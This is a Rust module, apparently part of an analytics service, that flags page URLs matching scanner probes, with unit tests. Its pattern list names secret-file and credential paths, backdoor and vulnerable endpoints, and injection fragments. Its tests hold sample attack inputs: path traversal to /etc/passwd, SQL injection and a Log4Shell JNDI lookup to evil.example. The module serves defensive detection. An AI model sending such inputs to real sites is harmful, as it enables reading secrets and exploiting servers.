//! Addresses that only scanners ask for.
//!
//! In scope: paths of files that hold secrets, of backdoors and of well-known holes, and texts that attack. Out of scope: pages that people of
//! a site use too, such as `/wp-login.php`.

use std::borrow::Cow;

use crate::event::Event;
use crate::filter::Signal;
use crate::url::decode_param;

/// Where in an address a probe counts.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Place {
    /// At the beginning of the path, whole segments: deeper it may be a page about it.
    Root,
    /// Whole segments, or a file of this name with any extension.
    Segment,
    /// Anywhere.
    Text,
}
use Place::{Root, Segment, Text};

/// Parts of a page's address that no page with a tracker has; lower-case.
const PROBES: [(&str, Place); 28] = [
    ("/.env", Segment),
    ("/.git/", Text),
    ("/.svn/", Text),
    ("/.aws/", Text),
    ("/.ssh/", Text),
    ("/.ds_store", Segment),
    ("/.htpasswd", Segment),
    ("/.htaccess", Segment),
    ("/wp-config", Segment),
    ("/wp-content/plugins/wp-file-manager", Segment),
    ("/xmlrpc.php", Segment),
    ("/phpunit/", Text),
    ("/eval-stdin.php", Segment),
    ("/phpinfo", Segment),
    ("/boaform/", Root),
    ("/hnap1", Root),
    ("/actuator/", Root),
    ("/solr/admin", Root),
    ("/jmx-console", Root),
    ("/manager/html", Root),
    ("/server-status", Root),
    ("/etc/passwd", Segment),
    ("\\..\\", Text),
    ("<script", Text),
    ("${jndi:", Text),
    (" union select", Text),
    (" union all select", Text),
    ("' or '1'='1", Text),
];

/// Where in probes a byte occurs: 1 as the first, 2 as the second one, in either case.
#[expect(clippy::indexing_slicing, reason = "evaluated when the crate is built")]
const PLACES: [u8; 256] = {
    let mut places = [0; 256];
    let mut index = 0;
    while index < PROBES.len() {
        let probe = PROBES[index].0.as_bytes();
        places[probe[0] as usize] |= 1;
        places[probe[1] as usize] |= 2;
        places[probe[1].to_ascii_uppercase() as usize] |= 2;
        index += 1;
    }
    places
};

/// Adds the signal of the page's address, as it was sent.
pub fn check(event: &Event<'_>, signals: &mut Vec<Signal>) {
    if is_probe(decode_param(&event.page_url).as_bytes()) {
        signals.push(Cow::Borrowed("probe:path"));
    }
}

fn is_probe(url: &[u8]) -> bool {
    let mut before = 0;
    for (end, byte) in url.iter().enumerate() {
        let places = PLACES.get(usize::from(*byte)).copied().unwrap_or_default();
        // Few places of an address begin like a probe. Every probe begins with a character that has no case.
        if before & 1 != 0 && places & 2 != 0 {
            let (head, rest) = url.split_at_checked(end - 1).unwrap_or((url, &[]));
            if PROBES.iter().any(|(probe, place)| begins_with(rest, probe.as_bytes(), *place) && place.fits(head)) {
                return true;
            }
        }
        before = places;
    }
    false
}

impl Place {
    /// Whether a probe may follow this part of an address.
    fn fits(self, head: &[u8]) -> bool {
        // Only the two slashes before the host, so three parts.
        self != Root || head.split(|byte| *byte == b'/').count() == 3
    }
}

fn begins_with(text: &[u8], lower_case: &[u8], place: Place) -> bool {
    let is_end = |byte: &u8| matches!(byte, b'/' | b'?' | b'#' | b'&' | b';' | b'.' | b' ' | b'"' | b'\'' | 0);
    // The second character tells nearly all of them apart, for less than a comparison of text costs.
    text.get(1).map(u8::to_ascii_lowercase) == lower_case.get(1).copied()
        && text.split_at_checked(lower_case.len()).is_some_and(|(start, rest)| {
            start.eq_ignore_ascii_case(lower_case)
                && (place == Text || lower_case.ends_with(b"/") || rest.first().is_none_or(is_end))
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::filter::fixture::signals_of;

    #[test]
    fn every_probe_is_found() {
        for (probe, _) in PROBES {
            assert!(is_probe(format!("https://shop.example{}", probe.to_uppercase()).as_bytes()), "{probe}");
        }
    }

    #[test]
    fn what_scanners_ask_for_is_a_signal() {
        for (path, expected) in [
            ("/", &[][..]),
            ("/wp-login.php", &[]),
            ("/blog/etc/password-tips", &[]),
            ("/environment", &[]),
            ("/p/.envelope", &[]),
            ("/help/server-status", &[]),
            ("/docs/manager/html", &[]),
            ("/?from=/server-status", &[]),
            ("/cgi-bin/shop.pl?p=1", &[]),
            ("/a/../b", &[]),
            ("/help/etc/passwdless", &[]),
            ("/server-status", &["probe:path"]),
            ("/server-status?auto", &["probe:path"]),
            ("/app/.env/", &["probe:path"]),
            ("/wp-config.php.bak", &["probe:path"]),
            ("/a?file=../../etc/passwd%00", &["probe:path"]),
            ("/../../etc/passwd", &["probe:path"]),
            ("/.env", &["probe:path"]),
            ("/app/.ENV.production", &["probe:path"]),
            ("/.git/config", &["probe:path"]),
            ("/%2e%2e/%2e%2e/etc/passwd", &["probe:path"]),
            ("/search?q=1'%20UNION%20SELECT%20password", &["probe:path"]),
            ("/?x=${jndi:ldap://evil.example/a}", &["probe:path"]),
        ] {
            let json = format!(r#"{{"event_type":"page_view","page_url":"https://shop.example{path}"}}"#);
            assert_eq!(signals_of(&json, check), expected, "{path}");
        }
    }
}
